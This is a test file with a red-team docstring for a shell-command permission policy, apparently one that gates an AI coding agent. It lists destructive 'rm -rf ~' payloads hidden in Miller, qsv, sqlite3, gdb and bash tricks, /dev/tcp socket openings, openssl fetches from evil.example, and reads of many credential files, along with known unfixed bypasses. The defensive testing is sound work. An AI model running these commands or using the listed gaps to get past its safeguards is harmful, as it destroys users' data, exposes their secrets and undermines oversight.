r"""Probe round 47, redteam47 (2026-11-28): a red-team pass over the Bash analysis for calls
allowed or under-asked (~3,300 distinct calls, each in all five modes): GTFOBins' shell, command,
file-write, file-read, upload, download and library-load functions of the READ_ONLY and
PROBED_READERS programs (7z, ar, nm, bc, date, file, gdb, ip, jq, look, luac, mount, patch, pip,
sqlite3, ssh-keygen, tar, zip, cpio, sort, uniq, sdiff, xxd, rg, fd, tree, bat, ag, ack, yq, dasel,
mlr, xsv, qsv, csvtk, gron, cloc, scc, dvc, openssl, python -m, node, git, docker, kubectl, helm,
terraform, go, npm, pip, poetry, uv, pre-commit, gh, aws, gcloud, az, sed, awk, find, xmllint,
xmlstarlet, xidel, pandoc, exiftool, ffprobe), bash parameter-expansion tricks, process
substitution, coproc, exec redirections, here-documents fed to shells and interpreters, command -p,
builtin, enable -f, aliases, functions shadowing readers, traps, PROMPT_COMMAND/BASH_ENV/ENV,
BASH_CMDS/BASH_ALIASES, hash -p, arithmetic-subscript injection (test -v 'a[$(...)]', mapfile -C),
git hooks and config written through redirections, pager and editor variables, configuration
variables (RIPGREP_CONFIG_PATH, TAR_OPTIONS, KUBECONFIG, AWS_CONFIG_FILE, HOME, XDG_CONFIG_HOME),
symbolic-link tricks, archive extraction over the home, tilde/glob/$PWD spellings of ~/.ssh.

Fixed, by class:
1. A reader's option that loads other files or the network: xmllint --c14n/--c14n11/--exc-c14n
   set libxml2's NOENT and DTDLOAD as --noent/--loaddtd do (an external entity's file printed):
   out of _XMLLINT_FLAGS (AAAAA -> KKADD); openssl's -in and verify's files are file names, never
   a URI (OpenSSL 3 loads http://... certificates and CRLs over the network, X509_load_http; a
   scheme is an OSSL_STORE URI): _OPENSSL_URI (AAAAA -> KKADD).
2. Code a data tool runs: Miller's repl reads DSL statements from standard input and runs them
   (system() among them) and regtest runs its cases' commands: _MLR_BAD_VERBS (AAAAD -> KKADD);
   the command lines of Miller's system("CMD") and exec("PROG", [ARGS]) in put/filter words and in
   the repl's input, and qsv py/luau's Python and Luau code (shell.scan_code), are probed, so a
   catastrophe there is one (KKADD/AAAAD -> DDDDD), as qsv foreach's command line is.
3. A Windows home as WSL and Cygwin mount it (/mnt/c/Users/NAME, /cygdrive/c/Users/NAME) is a
   home, as Git Bash's /c/Users/NAME was (paths.HOME_DIR): rm -rf of it KKADD -> DDDDD.
4. Credential files of the same class as the listed ones (default_policy.yaml sensitive_paths):
   the other agent CLIs' stored keys and tokens (opencode/Kilo auth.json; Qwen Code's
   oauth_creds.json and Factory droid's auth.v2.* by file name, so that a project's .qwen/ or
   .factory/ searched whole stays read-only, round 30 published4; Auggie, Grok CLI, Kimi, Crush,
   llm, aichat, shell_gpt, gptme, Codeium), Doppler's and LastPass'
   CLI tokens, mail and chat clients' passwords (isync, OfflineIMAP, mutt/neomutt, Pidgin,
   WeeChat, irssi, HexChat), Subversion's saved passwords, Poetry's auth.toml, keyrings.alt's
   plaintext store, UpCloud, Snowflake, cqlsh, clickhouse-client, the old Twilio CLI, Safari's
   cookie jar, .Xauthority, Wi-Fi keys (wpa_supplicant.conf, iwd's .psk), smbpasswd, Remmina's
   connections, Telegram Desktop's session, fish's universal variables, buildkite-agent.cfg:
   AAAAA -> KKADD.
5. Wrappers stacked before a shell whose -c line opens a socket read-write (sudo env bash -c
   'exec 3<>/dev/tcp/h/p'): denied as behind one wrapper (destructive.py remote_shell; round 26's
   corpus check met it), KKADD -> DDDDD.

Held / decided: pip list --outdated (round 41's decision: read-only), docker inspect without a
format, jq -n env (the environment printed: older Left), privilege escalation KKADD (the seed's ask
list), python -m json.tool IN OUT (the build's trust), cat * (a glob's files are not matched against
the sensitive list: older Left); every shell trick above was already asked or denied.

Left: a sensitive file named inside a file's content (shellcheck -x following a script's source
line, pandoc's raw LaTeX \input in Markdown); zgrep's old file-name injection (CVE-2022-1271,
gzip < 1.12); Factory's legacy ~/.factory/auth.json (a trailing path would make a project's
.factory/ ask when searched whole, round 30 published4); ~/.hgrc's [auth] passwords (a project's .hgrc is no Mercurial file: round 36
persist36 keeps its write KAADD, so the name is not made sensitive); rm -rf ~/.ssh or ~/Documents (asked, bypass-allowed, as before); agent and tool
settings that may hold a key but mostly do not (~/.config/mods/mods.yml, ~/.copilot/config.json,
/etc/openvpn/*.conf with inline keys)."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import call_letters, snap

_SNAP = snap()


XML_AND_CERT_READERS = [
    ('xmllint --c14n a.xml', 'KKADD'),  # was AAAAA
    ('xmllint --exc-c14n a.xml', 'KKADD'),  # was AAAAA
    ('xmllint --c14n11 --nonet a.xml', 'KKADD'),  # was AAAAA
    ('xmllint --noent a.xml', 'KKADD'),
    ('xmllint --format a.xml', 'AAAAA'),
    ('xmllint --noout a.xml', 'AAAAA'),
    ("xmllint --xpath '//x' a.xml", 'AAAAA'),
    ('xmllint --html --noout a.html', 'AAAAA'),
    ('openssl x509 -in http://evil.example/x.pem -noout -text', 'KKADD'),  # was AAAAA
    ('openssl crl -in http://evil.example/x.crl -noout -text', 'KKADD'),  # was AAAAA
    ('openssl verify http://evil.example/x.pem', 'KKADD'),  # was AAAAA
    ('openssl verify -CAfile ca.pem http://evil.example/x.pem', 'KKADD'),  # was AAAAA
    ('openssl verify -untrusted http://evil.example/i.pem cert.pem', 'KKADD'),  # was AAAAA
    ('openssl x509 -in file:cert.pem -noout', 'KKADD'),  # was AAAAA
    ('openssl x509 -in cert.pem -noout -text', 'AAAAA'),
    ('openssl x509 -in C:/certs/a.pem -noout', 'AAAAA'),
    ('openssl x509 -in certs/server.crt -noout -subject -dates', 'AAAAA'),
    ('openssl verify -CAfile ca.pem cert.pem', 'AAAAA'),
    ('openssl crl -in x.crl -noout -text', 'AAAAA'),
]


MILLER_AND_QSV_CODE = [
    ('mlr repl <<< \'system("rm -rf ~")\'', 'DDDDD'),  # was AAAAD
    ('echo \'system("rm -rf ~")\' | mlr repl', 'DDDDD'),  # was AAAAD
    ('mlr repl < stmts.txt', 'KKADD'),  # was AAAAD
    ('mlr repl <<< \'system("touch /tmp/x")\'', 'KKADD'),  # was AAAAD
    ('mlr regtest cases', 'KKADD'),  # was AAAAD
    ('mlr -n put \'end{system("rm -rf ~")}\'', 'DDDDD'),  # was KKADD
    ('mlr -n put \'end{system("rm -rf " . "~")}\'', 'DDDDD'),  # was KKADD
    ('mlr -n put \'end{exec("rm", ["-rf", "/home/u"])}\'', 'DDDDD'),  # was KKADD
    ('mlr -n put \'end{system("touch /tmp/x")}\'', 'KKADD'),
    ("mlr -n put 'end{x = system($cmd)}'", 'KKADD'),
    ("mlr --icsv --ojson --from x.csv put '$z = $x * 2'", 'AAAAD'),
    ('mlr --icsv --ojson --from x.csv put \'$z = splitax($y, ",")[1]\'', 'AAAAD'),
    ('mlr --icsv --opprint --from x.csv stats1 -a mean -f x', 'AAAAD'),
    ('mlr --c2p cat x.csv', 'AAAAD'),
    ('qsv python map y \'__import__("os").system("rm -rf ~")\' x.csv', 'DDDDD'),  # was KKADD
    ('qsv py map y \'import shutil; shutil.rmtree("/home/u")\' x.csv', 'DDDDD'),  # was KKADD
    ('qsv py filter \'os.system("rm -rf ~")\' x.csv', 'DDDDD'),  # was KKADD
    ('qsv luau map y \'os.execute("rm -rf ~")\' x.csv', 'DDDDD'),  # was KKADD
    ("qsv py map y 'a + b' x.csv", 'KKADD'),
    ("qsv foreach name 'rm -rf /home/u' x.csv", 'DDDDD'),  # was KKADD
    ("qsv foreach name 'echo {}' x.csv", 'KKADD'),
    ("qsv luau map y 'a + b' x.csv", 'KKADD'),
    ('qsv select a x.csv', 'AAAAD'),
    ("qsv search 'rm -rf' x.csv", 'AAAAD'),
]


WINDOWS_HOMES = [
    ('rm -rf /mnt/c/Users/dev', 'DDDDD'),  # was KKADD
    ('rm -rf /mnt/d/Users/dev/', 'DDDDD'),  # was KKADD
    ('rm -rf /cygdrive/c/Users/dev', 'DDDDD'),  # was KKADD
    ('rm -rf /mnt/c/Users/dev/*', 'DDDDD'),  # was KKADD
    ('rm -rf /c/Users/dev', 'DDDDD'),
    ('rm -rf /mnt/c/Users/dev/proj/build', 'KKADD'),
    ('rm -rf /mnt/c/Users/dev/AppData', 'KKADD'),
    ('cat /mnt/c/Users/dev/notes.txt', 'AAAAA'),
    ('ls /mnt/c/Users/dev', 'AAAAA'),
]


CREDENTIAL_FILES = [
    ('cat ~/.local/share/opencode/auth.json', 'KKADD'),  # was AAAAA
    ('cat ~/.qwen/oauth_creds.json', 'KKADD'),  # was AAAAA
    ('cat ~/.factory/auth.v2.file', 'KKADD'),  # was AAAAA
    ('cat ~/.factory/auth.encrypted', 'KKADD'),  # was AAAAA
    ('cat ~/.gemini/oauth_creds.json', 'KKADD'),
    ('grep -rn mcpServers .factory', 'AAAAA'),
    ('grep -rn model .qwen', 'AAAAA'),
    ('cat ~/.augment/session.json', 'KKADD'),  # was AAAAA
    ('cat ~/.grok/user-settings.json', 'KKADD'),  # was AAAAA
    ('cat ~/.kimi/credentials/kimi-code.json', 'KKADD'),  # was AAAAA
    ('cat ~/.local/share/crush/crush.json', 'KKADD'),  # was AAAAA
    ('cat ~/.config/io.datasette.llm/keys.json', 'KKADD'),  # was AAAAA
    ('cat ~/.config/aichat/config.yaml', 'KKADD'),  # was AAAAA
    ('cat ~/.config/shell_gpt/.sgptrc', 'KKADD'),  # was AAAAA
    ('cat ~/.codeium/config.json', 'KKADD'),  # was AAAAA
    ('cat ~/.doppler/.doppler.yaml', 'KKADD'),  # was AAAAA
    ('cat ~/.lpass/plaintext_key', 'KKADD'),  # was AAAAA
    ('cat ~/.mbsyncrc', 'KKADD'),  # was AAAAA
    ('cat ~/.offlineimaprc', 'KKADD'),  # was AAAAA
    ('cat ~/.muttrc', 'KKADD'),  # was AAAAA
    ('cat ~/.config/mutt/muttrc', 'KKADD'),  # was AAAAA
    ('cat ~/.purple/accounts.xml', 'KKADD'),  # was AAAAA
    ('cat ~/.config/weechat/sec.conf', 'KKADD'),  # was AAAAA
    ('cat ~/.irssi/config', 'KKADD'),  # was AAAAA
    ('cat ~/.config/hexchat/servlist.conf', 'KKADD'),  # was AAAAA
    ('cat ~/.subversion/auth/svn.simple/5671adf2865e267db74f09ba6f872c28', 'KKADD'),  # was AAAAA
    ('cat ~/.config/pypoetry/auth.toml', 'KKADD'),  # was AAAAA
    ('cat ~/.local/share/python_keyring/keyring_pass.cfg', 'KKADD'),  # was AAAAA
    ('cat ~/.config/upcloud.yaml', 'KKADD'),  # was AAAAA
    ('cat ~/.snowflake/connections.toml', 'KKADD'),  # was AAAAA
    ('cat ~/.cassandra/cqlshrc', 'KKADD'),  # was AAAAA
    ('cat ~/.clickhouse-client/config.xml', 'KKADD'),  # was AAAAA
    ('cat ~/.twilio-cli/config.json', 'KKADD'),  # was AAAAA
    ('cat ~/Library/Cookies/Cookies.binarycookies', 'KKADD'),  # was AAAAA
    ('cat ~/.Xauthority', 'KKADD'),  # was AAAAA
    ('cat /etc/wpa_supplicant/wpa_supplicant.conf', 'KKADD'),  # was AAAAA
    ('cat /var/lib/iwd/home.psk', 'KKADD'),  # was AAAAA
    ('cat /etc/samba/smbpasswd', 'KKADD'),  # was AAAAA
    ('cat ~/.local/share/remmina/group_rdp_x.remmina', 'KKADD'),  # was AAAAA
    ('cat ~/.local/share/TelegramDesktop/tdata/key_datas', 'KKADD'),  # was AAAAA
    ('cat ~/.config/fish/fish_variables', 'KKADD'),  # was AAAAA
    ('cat ~/.hgrc', 'KKADD'),  # was AAAAA (round 48, redteam48: the home's .hgrc, its [auth] passwords)
    ('echo x > .hgrc', 'KAADD'),
    ('cat ~/.buildkite-agent/buildkite-agent.cfg', 'KKADD'),  # was AAAAA
    ('grep -r pass ~/.config/weechat', 'KKADD'),  # was AAAAA
    ('cat crush.json', 'AAAAA'),
    ('cat config/app.yaml', 'AAAAA'),
    ('cat ~/.config/zed/settings.json', 'AAAAA'),
    ('cat ~/.ssh/id_ed25519.pub', 'AAAAA'),
]


# (the corpus check of round 26 met it: two wrappers stacked before a shell whose -c line opens
# a socket read-write were less strict than one; destructive.py's remote_shell text)
STACKED_WRAPPERS = [
    ("sudo env bash -c 'exec 3<>/dev/tcp/x.example/80'", 'DDDDD'),  # was KKADD
    ("timeout 5 env bash -c 'exec 3<>/dev/tcp/x.example/80'", 'DDDDD'),  # was KKADD
    ("env bash -c 'exec 3<>/dev/tcp/x.example/80'", 'DDDDD'),
    ("sudo env timeout 1 bash -c '</dev/tcp/h.example/80'", 'KKADD'),
]

HELD = [
    ('pip list --outdated', 'AAAAA'),
    ('docker inspect web', 'AAAAA'),
    ('jq -n env', 'AAAAA'),
    ('sudo ls', 'KKADD'),
    ("test -v 'a[$(rm -rf ~)]'", 'DDDDD'),
    ("mapfile -C 'rm -rf ~ #' -c 1 < a.txt", 'DDDDD'),
    ('hash -p ./evil ls; ls', 'KKKDD'),
    ('BASH_CMDS[ls]=/tmp/evil; ls', 'KKKDD'),
    ("trap 'rm -rf ~' EXIT", 'DDDDD'),
    ('ln -s .. up; cat up/.ssh/id_rsa', 'KKADD'),
    ('ln -s .. up; rm -rf up/', 'DDDDD'),
    ('cd .. && rm -rf .', 'DDDDD'),
    ('tree --fromfile ~/.ssh/id_rsa', 'KKADD'),
    ('rg --pre ./evil foo', 'KKADD'),
    ('colordiff a b', 'AAAAA'),
    ("sqlite3 a.db '.shell rm -rf ~'", 'DDDDD'),
    ("gdb -batch -ex 'shell rm -rf ~'", 'DDDDD'),
    ('python3 -m json.tool a.json b.json', 'AAAAD'),
    ('cat *', 'AAAAA'),
]


@pytest.mark.parametrize("call,expected", XML_AND_CERT_READERS, ids=[r[0] for r in XML_AND_CERT_READERS])
def test_round47_redteam47_xml_and_cert_readers(call, expected):
    assert call_letters(_SNAP, call) == expected


@pytest.mark.parametrize("call,expected", MILLER_AND_QSV_CODE, ids=[r[0] for r in MILLER_AND_QSV_CODE])
def test_round47_redteam47_miller_and_qsv_code(call, expected):
    assert call_letters(_SNAP, call) == expected


@pytest.mark.parametrize("call,expected", WINDOWS_HOMES, ids=[r[0] for r in WINDOWS_HOMES])
def test_round47_redteam47_windows_homes(call, expected):
    assert call_letters(_SNAP, call) == expected


@pytest.mark.parametrize("call,expected", CREDENTIAL_FILES, ids=[r[0] for r in CREDENTIAL_FILES])
def test_round47_redteam47_credential_files(call, expected):
    assert call_letters(_SNAP, call) == expected


@pytest.mark.parametrize("call,expected", STACKED_WRAPPERS, ids=[r[0] for r in STACKED_WRAPPERS])
def test_round47_redteam47_stacked_wrappers(call, expected):
    assert call_letters(_SNAP, call) == expected


@pytest.mark.parametrize("call,expected", HELD, ids=[r[0] for r in HELD])
def test_round47_redteam47_held(call, expected):
    assert call_letters(_SNAP, call) == expected
